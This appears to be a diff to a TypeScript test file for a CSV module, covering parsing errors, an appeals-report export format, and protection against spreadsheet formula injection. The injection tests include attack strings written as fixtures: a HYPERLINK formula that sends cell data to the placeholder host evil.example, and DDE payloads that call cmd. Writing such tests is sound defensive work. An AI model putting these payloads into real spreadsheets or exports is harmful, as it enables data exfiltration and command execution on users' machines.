@@ -1,6 +1,9 @@
-// The RFC 4180 reader used by the tariff import, and money parsing/formatting.
+// The CSV module (reading uploads, writing exports with formulas neutralised),
+// and money parsing/formatting.
 import { describe, expect, it } from 'vitest';
-import { detectDelimiter, parseCsv, toCsv } from '../../domain/csv';
+import { appealReportCsv } from '../../domain/appeal-report';
+import { detectDelimiter, FORMULA_START, parseCsv, toCsv } from '../../domain/csv';
+import { readTariffFile, tariffRatesCsv, TEMPLATE_RATES } from '../../domain/tariff-import';
 import { formatKop, formatQuantity, kopToDecimal, mulDivRound, parseRubToKop, rubToKop } from '../../domain/money';
 
 const fields = (text: string) => parseCsv(text).records.map((r) => r.fields);
@@ -40,16 +43,23 @@ describe('parseCsv', () => {
     ]);
   });
 
-  it('reports broken quoting with the line, and goes on with the next record', () => {
+  it('reports broken quoting with the line it starts on and drops that record; a stray quote in a bare value is a character, as in Excel', () => {
     const r = parseCsv('a;b\n1;x"y\n2;"ok"z\n3;"fine"\n4;"never closed\n5;6\n');
     expect(r.errors).toEqual([
-      { line: 2, message: expect.stringContaining('Кавычка внутри значения без кавычек') },
-      { line: 3, message: 'После закрывающей кавычки должен идти разделитель или конец строки' },
+      { line: 3, message: expect.stringContaining('Значение в кавычках, начатое в этой строке, закрыто неправильно') },
       { line: 5, message: 'Кавычка, открытая в этой строке, не закрыта до конца файла' },
     ]);
+    // The badly closed value runs on to the next quote, so line 4 goes with it: the file is refused either way.
     expect(r.records.map((x) => x.fields)).toEqual([
       ['a', 'b'],
-      ['3', 'fine'],
+      ['1', 'x"y'],
+    ]);
+    // Reading goes on after a bad record once the quotes pair up again.
+    const after = parseCsv('a;b\n1;"ok"z\n2;"3"\n4;5\n');
+    expect(after.errors.map((e) => e.line)).toEqual([2]);
+    expect(after.records).toEqual([
+      { line: 1, fields: ['a', 'b'] },
+      { line: 4, fields: ['4', '5'] },
     ]);
   });
 
@@ -62,6 +72,48 @@ describe('parseCsv', () => {
       ['C4', ' padded '],
     ];
     expect(parseCsv(toCsv(rows)).records.map((r) => r.fields)).toEqual(rows);
+  });
+});
+
+describe('spreadsheet formula injection', () => {
+  // What a staff member's Excel would run: a text cell starting with = + - @, tab or CR.
+  const attacks = ['=HYPERLINK("http://evil.example/?"&A1;"Подробнее")', '+7 (900) 123-45-67', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1'];
+
+  it('writes every dangerous text cell with a leading apostrophe, so it reads back as text, not a formula', () => {
+    const file = toCsv([['Комментарий'], ...attacks.map((a) => [a])]);
+    const cells = parseCsv(file).records.slice(1).map((r) => r.fields[0]!);
+    // (A line end inside a value reads back as '\n', whatever the file used.)
+    expect(cells).toEqual(attacks.map((a) => `'${a}`.replace('\r', '\n')));
+    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
+  });
+
+  it('leaves numbers alone: a negative count is data, written bare', () => {
+    const file = toCsv([['Итог', 'Текст'], [-5, '-5']]);
+    expect(file.split('\r\n')[1]).toBe(`-5;"'-5"`);
+    expect(parseCsv(file).records[1]!.fields).toEqual(['-5', "'-5"]);
+  });
+
+  it('leaves ordinary text and the cells our exports hold untouched', () => {
+    const rows = [['ул. Садовая: 1, 3, 5–9; ул. Лесная', '2155,09', '*', 'C8.1', 'ВЛ-0,4 кВ', '10:00']];
+    expect(parseCsv(toCsv(rows)).records.map((r) => r.fields)).toEqual(rows);
+    // The tariff export still imports as is.
+    expect(readTariffFile('csv', tariffRatesCsv(TEMPLATE_RATES))).toMatchObject({ problems: [], rates: expect.arrayContaining([expect.objectContaining({ item: 'C8.1' })]) });
+  });
+
+  it('neutralises a note typed by staff in the tariff export', () => {
+    const csv = tariffRatesCsv([{ ...TEMPLATE_RATES[0]!, note: '=1+1' }]);
+    expect(parseCsv(csv).records[1]!.fields.at(-1)).toBe("'=1+1");
+  });
+});
+
+describe('the appeals report CSV', () => {
+  it('keeps its dialect: «;», every text cell quoted, counts bare, CRLF after every row', () => {
+    const csv = appealReportCsv({ from: '2026-01-01', to: '2026-03-31' }, [{ topic: 'metering', kind: 'complaint', channel: 'written', total: 3, onTime: 1, late: 1, notAnswered: 1 }]);
+    const lines = csv.split('\r\n');
+    expect(lines[0]).toBe('"Период";"Тема";"Вид";"Канал поступления";"Всего";"Ответ в срок";"Ответ с нарушением срока";"Без ответа"');
+    expect(lines[1]).toBe('"2026-01-01 — 2026-03-31";"Коммерческий учёт электрической энергии";"Жалоба";"В письменной форме";3;1;1;1');
+    expect(lines[2]).toBe('');
+    expect(lines).toHaveLength(3);
   });
 });
 
